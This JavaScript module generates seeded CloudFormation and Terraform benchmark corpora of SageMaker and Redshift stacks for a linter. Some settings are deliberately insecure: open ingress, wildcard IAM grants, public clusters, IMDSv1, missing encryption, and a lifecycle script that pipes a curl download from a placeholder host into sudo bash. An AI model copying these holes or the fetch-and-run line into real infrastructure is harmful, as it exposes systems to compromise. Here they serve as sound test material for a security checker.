// Deterministic benchmark corpora: realistic CloudFormation stacks (YAML and
// JSON, with parameters, conditions, mappings and intrinsics), Terraform
// modules, and one very large template. The same seed always writes the same
// bytes, so figures from different runs compare like with like.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';

/**
 * How stacks are generated: the share of security-relevant settings left weak
 * and how many workloads a stack has (a network and roles come with them).
 */
export const PROFILES = {
  /** As in a repository that already runs the check: one weak setting in ten. */
  maintained: { weakShare: 0.1, workloads: [2, 12] },
  /** As in a repository that has never run the check: nearly every setting weak, and larger stacks. */
  firstRun: { weakShare: 0.95, workloads: [14, 18] },
};

/** mulberry32: small, fast, and the same sequence on every platform. */
export function seededRandom(seed, weakShare = PROFILES.maintained.weakShare) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (min, max) => min + Math.floor(next() * (max - min + 1)),
    pick: (list) => list[Math.floor(next() * list.length)],
    chance: (p) => next() < p,
    /** A weak setting, as often as the profile leaves one. */
    weak: () => next() < weakShare,
  };
}

// ── Template model: plain objects, plus markers for what YAML writes specially ──

/** An intrinsic function: `!Name arg` in YAML, `{ "Fn::Name": arg }` (or `Ref`) in JSON. */
const fn = (name, arg) => ({ $fn: name, arg });
const ref = (name) => fn('Ref', name);
const getAtt = (resource, attribute) => ({ $fn: 'GetAtt', arg: [resource, attribute], short: `${resource}.${attribute}` });
const sub = (text) => fn('Sub', text);
const ifThen = (condition, yes, no) => fn('If', [condition, yes, no]);
/** A multi-line string: a `|` block scalar in YAML. */
const block = (text) => ({ $block: text });

const INSTANCE_TYPES = ['ml.t3.medium', 'ml.t3.large', 'ml.m5.xlarge', 'ml.c5.2xlarge', 'ml.g4dn.xlarge', 'ml.p3.2xlarge'];
const TEAMS = ['research', 'platform', 'fraud', 'search', 'ads', 'risk', 'growth', 'vision'];
const NODE_TYPES = ['ra3.xlplus', 'ra3.4xlarge', 'dc2.large'];
const ACTIONS = ['s3:GetObject', 's3:PutObject', 's3:ListBucket', 'sagemaker:CreateTrainingJob', 'sagemaker:InvokeEndpoint', 'logs:PutLogEvents', 'ecr:BatchGetImage', 'kms:Decrypt', 'iam:PassRole'];

const SAGEMAKER_ENDPOINTS = [
  ['SageMakerApi', 'com.amazonaws.${AWS::Region}.sagemaker.api'],
  ['SageMakerRuntime', 'com.amazonaws.${AWS::Region}.sagemaker.runtime'],
  ['SageMakerNotebook', 'aws.sagemaker.${AWS::Region}.notebook'],
  ['SageMakerStudio', 'aws.sagemaker.${AWS::Region}.studio'],
];

/** An endpoint policy held to the account's principals, or (one time in ten) the default open one. */
function endpointPolicy(rng) {
  if (rng.weak()) return {};
  return {
    PolicyDocument: {
      Statement: [{ Effect: 'Allow', Principal: '*', Action: '*', Resource: '*', Condition: { StringEquals: { 'aws:PrincipalAccount': ref('AWS::AccountId') } } }],
    },
  };
}

function tags(rng, extra = {}) {
  const list = [{ Key: 'team', Value: rng.pick(TEAMS) }, { Key: 'env', Value: ref('Environment') }];
  if (rng.chance(0.5)) list.push({ Key: 'cost-center', Value: String(rng.int(1000, 9999)) });
  for (const [Key, Value] of Object.entries(extra)) list.push({ Key, Value });
  return list;
}

function policyDocument(rng) {
  const statements = [];
  for (let i = rng.int(1, 4); i > 0; i--) {
    const actions = Array.from({ length: rng.int(1, 4) }, () => rng.pick(ACTIONS));
    statements.push({
      Effect: 'Allow',
      Action: [...new Set(actions)],
      Resource: rng.weak() ? '*' : sub(`arn:\${AWS::Partition}:s3:::ml-\${Environment}-${rng.pick(TEAMS)}/*`),
      ...(rng.chance(0.2) ? { Condition: { StringEquals: { 'aws:RequestedRegion': ref('AWS::Region') } } } : {}),
    });
  }
  return { Version: '2012-10-17', Statement: statements };
}

const LIFECYCLE_SCRIPT = `#!/bin/bash
set -euo pipefail
# Point the team's tooling at the environment and stop idle kernels after an hour.
sudo -u ec2-user -i <<'EOF'
echo "export ENVIRONMENT=\${Environment}" >> ~/.bashrc
conda run -n python3 pip install --quiet --index-url https://pypi.internal.example/simple sagemaker-utils==2.4.1
EOF
echo "idle-timeout=3600" > /home/ec2-user/.autostop
`;

const RISKY_LIFECYCLE_SCRIPT = `${LIFECYCLE_SCRIPT}curl -fsSL https://example.invalid/setup.sh | sudo bash
`;

/** Resource builders: each adds one or more resources to `out` and returns the main logical ID. */
const BUILDERS = {
  network(rng, out, n) {
    const vpc = `Vpc${n}`;
    out[vpc] = { Type: 'AWS::EC2::VPC', Properties: { CidrBlock: `10.${n % 250}.0.0/16`, EnableDnsSupport: true, EnableDnsHostnames: true, Tags: tags(rng) } };
    const subnet = `PrivateSubnet${n}`;
    out[subnet] = {
      Type: 'AWS::EC2::Subnet',
      Properties: { VpcId: ref(vpc), CidrBlock: `10.${n % 250}.${rng.int(0, 200)}.0/24`, AvailabilityZone: fn('Select', [0, fn('GetAZs', '')]), MapPublicIpOnLaunch: false, Tags: tags(rng) },
    };
    const sg = `NotebookSecurityGroup${n}`;
    out[sg] = {
      Type: 'AWS::EC2::SecurityGroup',
      Properties: {
        GroupDescription: 'Notebook access from the corporate network',
        VpcId: ref(vpc),
        SecurityGroupIngress: [{ IpProtocol: 'tcp', FromPort: 443, ToPort: 443, CidrIp: rng.weak() ? '0.0.0.0/0' : '10.0.0.0/8' }],
        Tags: tags(rng),
      },
    };
    out[`S3Endpoint${n}`] = {
      Type: 'AWS::EC2::VPCEndpoint',
      Properties: { VpcId: ref(vpc), ServiceName: sub('com.amazonaws.${AWS::Region}.s3'), VpcEndpointType: 'Gateway', ...endpointPolicy(rng) },
    };
    for (const [name, service] of SAGEMAKER_ENDPOINTS) {
      if (rng.weak()) continue;
      out[`${name}Endpoint${n}`] = {
        Type: 'AWS::EC2::VPCEndpoint',
        Properties: { VpcId: ref(vpc), ServiceName: sub(service), VpcEndpointType: 'Interface', PrivateDnsEnabled: true, SubnetIds: [ref(subnet)], SecurityGroupIds: [ref(sg)], ...endpointPolicy(rng) },
      };
    }
    return { vpc, subnet, sg };
  },
  role(rng, out, n) {
    const id = `ExecutionRole${n}`;
    out[id] = {
      Type: 'AWS::IAM::Role',
      Properties: {
        AssumeRolePolicyDocument: {
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: { Service: 'sagemaker.amazonaws.com' },
              Action: 'sts:AssumeRole',
              ...(rng.weak() ? {} : { Condition: { StringEquals: { 'aws:SourceAccount': ref('AWS::AccountId') } } }),
            },
          ],
        },
        ManagedPolicyArns: rng.weak() ? ['arn:aws:iam::aws:policy/AmazonSageMakerFullAccess'] : [],
        Policies: Array.from({ length: rng.int(1, 2) }, (_, i) => ({ PolicyName: `access-${i}`, PolicyDocument: policyDocument(rng) })),
        Tags: tags(rng),
      },
    };
    if (rng.chance(0.3)) {
      out[`ExtraPolicy${n}`] = { Type: 'AWS::IAM::ManagedPolicy', Properties: { PolicyDocument: policyDocument(rng), Roles: [ref(id)] } };
    }
    return id;
  },
  notebook(rng, out, n, env) {
    const id = `Notebook${n}`;
    let lifecycle;
    if (rng.chance(0.3)) {
      lifecycle = `NotebookLifecycle${n}`;
      out[lifecycle] = {
        Type: 'AWS::SageMaker::NotebookInstanceLifecycleConfig',
        Properties: { OnStart: [{ Content: fn('Base64', fn('Sub', block(rng.weak() ? RISKY_LIFECYCLE_SCRIPT : LIFECYCLE_SCRIPT))) }] },
      };
    }
    const hardened = !rng.weak();
    out[id] = {
      Type: 'AWS::SageMaker::NotebookInstance',
      ...(rng.chance(0.2) ? { Condition: 'IsProd' } : {}),
      Properties: {
        InstanceType: fn('FindInMap', ['InstanceSizes', ref('Environment'), 'Notebook']),
        RoleArn: getAtt(env.role, 'Arn'),
        ...(hardened ? { SubnetId: ref(env.net.subnet), SecurityGroupIds: [ref(env.net.sg)], KmsKeyId: ref('PlatformKey') } : {}),
        DirectInternetAccess: hardened ? 'Disabled' : ifThen('IsProd', 'Disabled', 'Enabled'),
        RootAccess: rng.weak() ? rng.pick(['Enabled', ref('NotebookRootAccess')]) : 'Disabled',
        PlatformIdentifier: rng.weak() ? 'notebook-al2-v2' : 'notebook-al2023-v1',
        VolumeSizeInGB: rng.int(5, 200),
        ...(lifecycle ? { LifecycleConfigName: getAtt(lifecycle, 'NotebookInstanceLifecycleConfigName') } : {}),
        InstanceMetadataServiceConfiguration: { MinimumInstanceMetadataServiceVersion: rng.weak() ? '1' : '2' },
        Tags: tags(rng, { owner: `${rng.pick(TEAMS)}@example.com` }),
      },
    };
    return id;
  },
  domain(rng, out, n, env) {
    const id = `StudioDomain${n}`;
    out[id] = {
      Type: 'AWS::SageMaker::Domain',
      Properties: {
        DomainName: sub(`ml-\${Environment}-${n}`),
        AuthMode: rng.pick(['IAM', 'SSO']),
        VpcId: ref(env.net.vpc),
        SubnetIds: [ref(env.net.subnet)],
        AppNetworkAccessType: rng.weak() ? ifThen('IsProd', 'VpcOnly', 'PublicInternetOnly') : 'VpcOnly',
        KmsKeyId: ref('PlatformKey'),
        DefaultUserSettings: { ExecutionRole: getAtt(env.role, 'Arn'), SecurityGroups: [ref(env.net.sg)], StudioWebPortal: 'ENABLED' },
        Tags: tags(rng),
      },
    };
    for (let u = rng.int(0, 3); u > 0; u--) {
      out[`UserProfile${n}x${u}`] = {
        Type: 'AWS::SageMaker::UserProfile',
        Properties: { DomainId: getAtt(id, 'DomainId'), UserProfileName: `${rng.pick(TEAMS)}-user-${u}`, UserSettings: { ExecutionRole: getAtt(env.role, 'Arn') }, Tags: tags(rng) },
      };
    }
    return id;
  },
  inference(rng, out, n, env) {
    const model = `Model${n}`;
    out[model] = {
      Type: 'AWS::SageMaker::Model',
      Properties: {
        ExecutionRoleArn: getAtt(env.role, 'Arn'),
        EnableNetworkIsolation: !rng.weak(),
        PrimaryContainer: {
          Image: sub(`\${AWS::AccountId}.dkr.ecr.\${AWS::Region}.amazonaws.com/${rng.pick(TEAMS)}:${rng.int(1, 9)}.${rng.int(0, 20)}`),
          ModelDataUrl: `s3://ml-artifacts/${rng.pick(TEAMS)}/model-${n}.tar.gz`,
          Environment: { SAGEMAKER_PROGRAM: 'inference.py', LOG_LEVEL: rng.pick(['INFO', 'DEBUG']) },
        },
        ...(rng.weak() ? {} : { VpcConfig: { Subnets: [ref(env.net.subnet)], SecurityGroupIds: [ref(env.net.sg)] } }),
        Tags: tags(rng),
      },
    };
    const config = `EndpointConfig${n}`;
    out[config] = {
      Type: 'AWS::SageMaker::EndpointConfig',
      Properties: {
        ...(rng.weak() ? {} : { KmsKeyId: ref('PlatformKey') }),
        ProductionVariants: [
          { VariantName: 'primary', ModelName: getAtt(model, 'ModelName'), InstanceType: rng.pick(INSTANCE_TYPES), InitialInstanceCount: rng.weak() ? ifThen('IsProd', 2, 1) : 2, InitialVariantWeight: 1 },
        ],
        DataCaptureConfig: rng.chance(0.3)
          ? {
              EnableCapture: true,
              InitialSamplingPercentage: 20,
              DestinationS3Uri: 's3://ml-capture/',
              ...(rng.weak() ? {} : { KmsKeyId: ref('PlatformKey') }),
              CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }],
            }
          : ref('AWS::NoValue'),
        Tags: tags(rng),
      },
    };
    out[`Endpoint${n}`] = { Type: 'AWS::SageMaker::Endpoint', Properties: { EndpointConfigName: getAtt(config, 'EndpointConfigName'), Tags: tags(rng) } };
    return model;
  },
  pipeline(rng, out, n, env) {
    const id = `TrainingPipeline${n}`;
    const definition = {
      Version: '2020-12-01',
      Steps: [
        {
          Name: 'Train',
          Type: 'Training',
          Arguments: {
            RoleArn: '${RoleArn}',
            AlgorithmSpecification: { TrainingImage: 'img', TrainingInputMode: 'File' },
            EnableNetworkIsolation: !rng.weak(),
            ResourceConfig: { InstanceType: 'ml.m5.xlarge', InstanceCount: 1, VolumeSizeInGB: 30, ...(rng.weak() ? {} : { VolumeKmsKeyId: '${KeyArn}' }) },
            OutputDataConfig: { S3OutputPath: `s3://ml-models-${n}/`, ...(rng.weak() ? {} : { KmsKeyId: '${KeyArn}' }) },
            ...(rng.weak() ? {} : { VpcConfig: { Subnets: ['${Subnet}'], SecurityGroupIds: ['${SecurityGroup}'] } }),
          },
        },
      ],
    };
    out[id] = {
      Type: 'AWS::SageMaker::Pipeline',
      Properties: {
        PipelineName: sub(`train-\${Environment}-${n}`),
        RoleArn: getAtt(env.role, 'Arn'),
        PipelineDefinition: {
          PipelineDefinitionBody: fn('Sub', [
            JSON.stringify(definition),
            { RoleArn: getAtt(env.role, 'Arn'), KeyArn: getAtt('PlatformKey', 'Arn'), Subnet: ref(env.net.subnet), SecurityGroup: ref(env.net.sg) },
          ]),
        },
        Tags: tags(rng),
      },
    };
    return id;
  },
  warehouse(rng, out, n) {
    const params = `WarehouseParams${n}`;
    out[params] = {
      Type: 'AWS::Redshift::ClusterParameterGroup',
      Properties: {
        Description: 'Feature warehouse parameters',
        ParameterGroupFamily: 'redshift-1.0',
        Parameters: [{ ParameterName: 'require_ssl', ParameterValue: rng.weak() ? 'false' : 'true' }, { ParameterName: 'enable_user_activity_logging', ParameterValue: 'true' }],
        Tags: tags(rng),
      },
    };
    const id = `FeatureWarehouse${n}`;
    out[id] = {
      Type: 'AWS::Redshift::Cluster',
      Properties: {
        ClusterType: 'multi-node',
        NumberOfNodes: rng.int(2, 8),
        NodeType: rng.pick(NODE_TYPES),
        DBName: 'features',
        MasterUsername: 'admin',
        ManageMasterPassword: true,
        PubliclyAccessible: rng.weak(),
        Encrypted: !rng.weak(),
        KmsKeyId: ref('PlatformKey'),
        EnhancedVpcRouting: !rng.weak(),
        ClusterParameterGroupName: ref(params),
        ...(rng.weak() ? {} : { LoggingProperties: { BucketName: 'audit-logs', S3KeyPrefix: sub(`redshift/\${Environment}/${n}/`) } }),
        Tags: tags(rng),
      },
    };
    return id;
  },
};

const WORKLOADS = ['notebook', 'domain', 'inference', 'pipeline', 'warehouse'];

/** One stack as a plain object: parameters, conditions, mappings, a network, roles and workloads. */
export function buildTemplate(rng, workloadCount) {
  const resources = {
    PlatformKey: {
      Type: 'AWS::KMS::Key',
      Properties: {
        EnableKeyRotation: true,
        KeyPolicy: {
          Version: '2012-10-17',
          Statement: [{ Sid: 'AccountAdmin', Effect: 'Allow', Principal: { AWS: sub('arn:${AWS::Partition}:iam::${AWS::AccountId}:root') }, Action: 'kms:*', Resource: '*' }],
        },
      },
    },
  };
  const net = BUILDERS.network(rng, resources, 0);
  const roleCount = Math.max(1, Math.round(workloadCount / 4));
  const roles = Array.from({ length: roleCount }, (_, i) => BUILDERS.role(rng, resources, i));
  for (let n = 0; n < workloadCount; n++) {
    BUILDERS[rng.pick(WORKLOADS)](rng, resources, n, { net, role: rng.pick(roles) });
  }
  return {
    AWSTemplateFormatVersion: '2010-09-09',
    Description: 'Machine learning platform stack generated for the sagelint benchmark',
    Parameters: {
      Environment: { Type: 'String', AllowedValues: ['dev', 'staging', 'prod'], Default: 'dev' },
      NotebookRootAccess: { Type: 'String', AllowedValues: ['Enabled', 'Disabled'], Default: 'Disabled' },
      DatabasePassword: { Type: 'String', NoEcho: true },
    },
    Mappings: {
      InstanceSizes: { dev: { Notebook: 'ml.t3.medium' }, staging: { Notebook: 'ml.t3.large' }, prod: { Notebook: 'ml.m5.xlarge' } },
    },
    Conditions: {
      IsProd: fn('Equals', [ref('Environment'), 'prod']),
      IsNotDev: fn('Not', [fn('Equals', [ref('Environment'), 'dev'])]),
    },
    Resources: resources,
    Outputs: { KeyArn: { Value: getAtt('PlatformKey', 'Arn'), Export: { Name: sub('${AWS::StackName}-key') } } },
  };
}

// ── Serializers ──

/** The JSON form: intrinsics in long form, blocks as plain strings. */
function toJsonData(node) {
  if (Array.isArray(node)) return node.map(toJsonData);
  if (node && typeof node === 'object') {
    if ('$block' in node) return node.$block;
    if ('$fn' in node) return { [node.$fn === 'Ref' ? 'Ref' : `Fn::${node.$fn}`]: toJsonData(node.arg) };
    return Object.fromEntries(Object.entries(node).map(([k, v]) => [k, toJsonData(v)]));
  }
  return node;
}

export function toJson(template) {
  return `${JSON.stringify(toJsonData(template), null, 2)}\n`;
}

const PLAIN_SCALAR = /^[A-Za-z_/][A-Za-z0-9 _./@:*-]*$/;
const RESERVED_PLAIN = /^(true|false|yes|no|on|off|null|y|n|~)$/i;

function yamlScalar(value) {
  if (typeof value !== 'string') return String(value);
  if (PLAIN_SCALAR.test(value) && !RESERVED_PLAIN.test(value) && !/: |:$| $/.test(value)) return value;
  if (!value.includes("'") && !value.includes('\n')) return `'${value}'`;
  return JSON.stringify(value);
}

const isFn = (node) => Boolean(node && typeof node === 'object' && '$fn' in node);
const isBlock = (node) => Boolean(node && typeof node === 'object' && '$block' in node);
const longName = (name) => (name === 'Ref' ? 'Ref' : `Fn::${name}`);

/** A value written on one line: scalars, flow collections, short-form intrinsics. */
function yamlFlow(node) {
  if (Array.isArray(node)) return `[${node.map(yamlFlow).join(', ')}]`;
  if (isBlock(node)) return JSON.stringify(node.$block);
  // One node carries one tag: an intrinsic directly inside another is written in long form.
  if (isFn(node)) return isFn(node.arg) ? `{ ${longName(node.$fn)}: ${yamlFlow(node.arg)} }` : `!${node.$fn} ${node.short ?? yamlFlow(node.arg)}`;
  if (node && typeof node === 'object') return `{ ${Object.entries(node).map(([k, v]) => `${yamlScalar(k)}: ${yamlFlow(v)}`).join(', ')} }`;
  return yamlScalar(node);
}

/** Short lists and small maps go on one line, as people write them. */
function fitsOnOneLine(node) {
  if (isBlock(node) || (isFn(node) && isBlock(node.arg))) return false;
  if (node === null || typeof node !== 'object') return true;
  return yamlFlow(node).length <= 60;
}

/**
 * Writes `prefix` (`  Key:` or `  -`) followed by `node`, in block style where
 * it does not fit on one line. `indent` is the indentation of nested lines.
 */
function emit(prefix, node, indent, lines) {
  if (fitsOnOneLine(node)) {
    lines.push(`${prefix} ${yamlFlow(node)}`);
  } else if (isBlock(node)) {
    lines.push(`${prefix} |`);
    for (const line of node.$block.replace(/\n$/, '').split('\n')) lines.push(line ? ' '.repeat(indent) + line : '');
  } else if (isFn(node) && isFn(node.arg)) {
    emit(prefix, { [longName(node.$fn)]: node.arg }, indent, lines);
  } else if (isFn(node)) {
    emit(`${prefix} !${node.$fn}`, node.arg, indent, lines);
  } else if (Array.isArray(node)) {
    lines.push(prefix);
    const pad = ' '.repeat(indent);
    for (const item of node) {
      if (item && typeof item === 'object' && !Array.isArray(item) && !isFn(item) && !isBlock(item) && !fitsOnOneLine(item)) {
        const inner = [];
        emitEntries(item, indent + 2, inner);
        inner[0] = `${pad}- ${inner[0].trimStart()}`;
        lines.push(...inner);
      } else {
        emit(`${pad}-`, item, indent + 2, lines);
      }
    }
  } else {
    lines.push(prefix);
    emitEntries(node, indent, lines);
  }
}

function emitEntries(map, indent, lines) {
  for (const [key, value] of Object.entries(map)) emit(`${' '.repeat(indent)}${yamlScalar(key)}:`, value, indent + 2, lines);
}

export function toYaml(template) {
  const lines = [];
  for (const [key, value] of Object.entries(template)) {
    emit(`${key}:`, value, 2, lines);
    lines.push('');
  }
  return lines.join('\n');
}

// ── Terraform ──

/** HCL for a value: strings are quoted unless they are expressions (`{ expr: "var.x" }`). */
function hcl(value, indent) {
  if (value && typeof value === 'object' && 'expr' in value) return value.expr;
  if (Array.isArray(value)) return `[${value.map((v) => hcl(v, indent)).join(', ')}]`;
  if (value && typeof value === 'object') {
    const pad = ' '.repeat(indent + 2);
    const body = Object.entries(value).map(([k, v]) => `${pad}${k} = ${hcl(v, indent + 2)}`);
    return `{\n${body.join('\n')}\n${' '.repeat(indent)}}`;
  }
  return typeof value === 'string' ? JSON.stringify(value) : String(value);
}

const expr = (text) => ({ expr: text });

/** A resource block: `attributes` become `name = value`, `blocks` nested blocks. */
function resourceBlock(type, name, attributes, blocks = {}) {
  const lines = [`resource "${type}" "${name}" {`];
  for (const [k, v] of Object.entries(attributes)) lines.push(`  ${k} = ${hcl(v, 2)}`);
  for (const [blockName, body] of Object.entries(blocks)) {
    for (const entry of Array.isArray(body) ? body : [body]) {
      lines.push('', `  ${blockName} {`);
      for (const [k, v] of Object.entries(entry)) lines.push(`    ${k} = ${hcl(v, 4)}`);
      lines.push('  }');
    }
  }
  lines.push('}', '');
  return lines.join('\n');
}

function tfPolicy(rng) {
  const statements = Array.from({ length: rng.int(1, 3) }, () => ({
    Effect: 'Allow',
    Action: [...new Set(Array.from({ length: rng.int(1, 3) }, () => rng.pick(ACTIONS)))],
    Resource: rng.weak() ? '*' : expr(`"arn:aws:s3:::ml-\${var.environment}-${rng.pick(TEAMS)}/*"`),
  }));
  return expr(`jsonencode(${hcl({ Version: '2012-10-17', Statement: statements }, 2)})`);
}

/** One Terraform root module: variables, locals, a network, roles and SageMaker/Redshift workloads. */
export function buildTerraformModule(rng, workloadCount) {
  const main = [
    'terraform {\n  required_providers {\n    aws = {\n      source  = "hashicorp/aws"\n      version = "~> 5.60"\n    }\n  }\n}\n',
    'locals {\n  common_tags = {\n    team = var.team\n    env  = var.environment\n  }\n  is_prod = var.environment == "prod"\n}\n',
    resourceBlock('aws_kms_key', 'platform', { enable_key_rotation: true }),
    resourceBlock('aws_vpc', 'main', { cidr_block: `10.${rng.int(0, 250)}.0.0/16`, tags: expr('local.common_tags') }),
    resourceBlock('aws_subnet', 'private', { vpc_id: expr('aws_vpc.main.id'), cidr_block: expr('cidrsubnet(aws_vpc.main.cidr_block, 8, 1)'), tags: expr('local.common_tags') }),
    resourceBlock(
      'aws_security_group',
      'notebook',
      { name: 'notebook', vpc_id: expr('aws_vpc.main.id') },
      { ingress: { from_port: 443, to_port: 443, protocol: 'tcp', cidr_blocks: [rng.weak() ? '0.0.0.0/0' : '10.0.0.0/8'] } },
    ),
  ];
  const roles = Math.max(1, Math.round(workloadCount / 4));
  for (let i = 0; i < roles; i++) {
    main.push(
      resourceBlock('aws_iam_role', `execution_${i}`, {
        name: expr(`"ml-\${var.environment}-execution-${i}"`),
        assume_role_policy: expr('jsonencode({\n    Version = "2012-10-17"\n    Statement = [{ Effect = "Allow", Principal = { Service = "sagemaker.amazonaws.com" }, Action = "sts:AssumeRole" }]\n  })'),
        tags: expr('local.common_tags'),
      }),
      resourceBlock('aws_iam_role_policy', `execution_${i}`, { role: expr(`aws_iam_role.execution_${i}.id`), policy: tfPolicy(rng) }),
    );
  }
  const role = () => expr(`aws_iam_role.execution_${rng.int(0, roles - 1)}.arn`);
  for (let n = 0; n < workloadCount; n++) {
    switch (rng.pick(WORKLOADS)) {
      case 'notebook':
        main.push(
          resourceBlock('aws_sagemaker_notebook_instance', `notebook_${n}`, {
            name: expr(`"nb-\${var.environment}-${n}"`),
            instance_type: rng.pick(INSTANCE_TYPES),
            role_arn: role(),
            ...(!rng.weak() ? { subnet_id: expr('aws_subnet.private.id'), security_groups: expr('[aws_security_group.notebook.id]'), kms_key_id: expr('aws_kms_key.platform.arn') } : {}),
            direct_internet_access: rng.weak() ? expr('local.is_prod ? "Disabled" : "Enabled"') : 'Disabled',
            root_access: rng.weak() ? 'Enabled' : 'Disabled',
            platform_identifier: rng.weak() ? 'notebook-al2-v2' : 'notebook-al2023-v1',
            tags: expr('local.common_tags'),
          }),
        );
        break;
      case 'domain':
        main.push(
          resourceBlock(
            'aws_sagemaker_domain',
            `studio_${n}`,
            {
              domain_name: expr(`"ml-\${var.environment}-${n}"`),
              auth_mode: 'IAM',
              vpc_id: expr('aws_vpc.main.id'),
              subnet_ids: expr('[aws_subnet.private.id]'),
              app_network_access_type: rng.weak() ? expr('local.is_prod ? "VpcOnly" : "PublicInternetOnly"') : 'VpcOnly',
              kms_key_id: expr('aws_kms_key.platform.arn'),
            },
            { default_user_settings: { execution_role: role(), security_groups: expr('[aws_security_group.notebook.id]') } },
          ),
        );
        break;
      case 'inference':
        main.push(
          resourceBlock(
            'aws_sagemaker_model',
            `model_${n}`,
            { name: expr(`"model-\${var.environment}-${n}"`), execution_role_arn: role(), enable_network_isolation: !rng.weak() },
            { primary_container: { image: `123456789012.dkr.ecr.us-east-1.amazonaws.com/${rng.pick(TEAMS)}:1.${n}`, model_data_url: `s3://ml-artifacts/model-${n}.tar.gz` } },
          ),
          resourceBlock(
            'aws_sagemaker_endpoint_configuration',
            `config_${n}`,
            rng.weak() ? {} : { kms_key_arn: expr('aws_kms_key.platform.arn') },
            { production_variants: { variant_name: 'primary', model_name: expr(`aws_sagemaker_model.model_${n}.name`), instance_type: rng.pick(INSTANCE_TYPES), initial_instance_count: rng.weak() ? expr('local.is_prod ? 2 : 1') : 2 } },
          ),
          resourceBlock('aws_sagemaker_endpoint', `endpoint_${n}`, { name: expr(`"endpoint-${n}"`), endpoint_config_name: expr(`aws_sagemaker_endpoint_configuration.config_${n}.name`) }),
        );
        break;
      case 'pipeline':
        main.push(
          resourceBlock('aws_sagemaker_pipeline', `pipeline_${n}`, {
            pipeline_name: expr(`"train-\${var.environment}-${n}"`),
            pipeline_display_name: `train-${n}`,
            role_arn: role(),
            pipeline_definition: expr('jsonencode({\n    Version = "2020-12-01"\n    Steps = [{ Name = "Train", Type = "Training", Arguments = { EnableNetworkIsolation = true } }]\n  })'),
          }),
        );
        break;
      case 'warehouse':
        main.push(
          resourceBlock('aws_redshift_cluster', `warehouse_${n}`, {
            cluster_identifier: expr(`"features-\${var.environment}-${n}"`),
            node_type: rng.pick(NODE_TYPES),
            number_of_nodes: rng.int(2, 8),
            database_name: 'features',
            master_username: 'admin',
            manage_master_password: true,
            publicly_accessible: rng.weak(),
            encrypted: !rng.weak(),
            enhanced_vpc_routing: !rng.weak(),
            tags: expr('local.common_tags'),
          }),
        );
        break;
    }
  }
  const variables = [
    'variable "environment" {\n  type    = string\n  default = "dev"\n  validation {\n    condition     = contains(["dev", "staging", "prod"], var.environment)\n    error_message = "Unknown environment."\n  }\n}\n',
    `variable "team" {\n  type    = string\n  default = "${rng.pick(TEAMS)}"\n}\n`,
  ];
  return { 'main.tf': main.join('\n'), 'variables.tf': variables.join('\n') };
}

// ── Corpora on disk ──

/**
 * Writes a corpus of `files` CloudFormation templates (about 30 % JSON) under
 * `dir`, spread over folders of 100 as in a monorepo, and returns its size.
 */
export function writeCloudFormationCorpus(dir, files, seed, profile = PROFILES.maintained) {
  rmSync(dir, { recursive: true, force: true });
  const rng = seededRandom(seed, profile.weakShare);
  let bytes = 0;
  let resources = 0;
  for (let i = 0; i < files; i++) {
    const folder = path.join(dir, `service-${String(Math.floor(i / 100)).padStart(3, '0')}`);
    if (i % 100 === 0) mkdirSync(folder, { recursive: true });
    const template = buildTemplate(rng, rng.int(...profile.workloads));
    resources += Object.keys(template.Resources).length;
    const json = rng.chance(0.3);
    const text = json ? toJson(template) : toYaml(template);
    writeFileSync(path.join(folder, `stack-${i}.${json ? 'json' : 'yaml'}`), text);
    bytes += Buffer.byteLength(text);
  }
  return { files, bytes, resources };
}

/** Writes `modules` Terraform root modules (two files each) under `dir`. */
export function writeTerraformCorpus(dir, modules, seed) {
  rmSync(dir, { recursive: true, force: true });
  const rng = seededRandom(seed);
  let bytes = 0;
  for (let i = 0; i < modules; i++) {
    const folder = path.join(dir, `module-${String(i).padStart(5, '0')}`);
    mkdirSync(folder, { recursive: true });
    for (const [name, text] of Object.entries(buildTerraformModule(rng, rng.int(2, 12)))) {
      writeFileSync(path.join(folder, name), text);
      bytes += Buffer.byteLength(text);
    }
  }
  return { files: modules * 2, bytes };
}

/**
 * Writes a Terraform monorepo under `dir`: `roots` root modules (`envs/NNNN`),
 * each calling three of `shared` local modules (`modules/mNN`, two files each)
 * with its own variable values, as environments and services share modules.
 */
export function writeTerraformMonorepo(dir, roots, shared, seed) {
  rmSync(dir, { recursive: true, force: true });
  const rng = seededRandom(seed);
  let bytes = 0;
  let files = 0;
  const write = (file, text) => {
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
    bytes += Buffer.byteLength(text);
    files++;
  };
  for (let m = 0; m < shared; m++) {
    for (const [name, text] of Object.entries(buildTerraformModule(rng, rng.int(2, 12)))) write(path.join(dir, 'modules', `m${String(m).padStart(2, '0')}`, name), text);
  }
  for (let r = 0; r < roots; r++) {
    const calls = new Set([rng.int(0, shared - 1), rng.int(0, shared - 1), rng.int(0, shared - 1)]);
    const main = [...calls].map((m) => {
      const name = `m${String(m).padStart(2, '0')}`;
      return `module "${name}" {\n  source = "../../modules/${name}"\n  team   = "${rng.pick(TEAMS)}"\n}\n`;
    });
    write(path.join(dir, 'envs', String(r).padStart(4, '0'), 'main.tf'), main.join('\n'));
  }
  return { files, bytes };
}

/** One template with `count` resources (a generated monolith, as some CDK apps emit). */
export function writeLargeTemplate(file, count, seed) {
  const rng = seededRandom(seed);
  const template = buildTemplate(rng, 1);
  const resources = template.Resources;
  const env = { net: { vpc: 'Vpc0', subnet: 'PrivateSubnet0', sg: 'NotebookSecurityGroup0' }, role: 'ExecutionRole0' };
  for (let n = 1, size = Object.keys(resources).length; size < count; n++) {
    const added = {};
    BUILDERS[rng.pick(WORKLOADS)](rng, added, n, env);
    Object.assign(resources, added);
    size += Object.keys(added).length;
  }
  const text = toYaml(template);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
  return { files: 1, bytes: Buffer.byteLength(text), resources: Object.keys(resources).length };
}
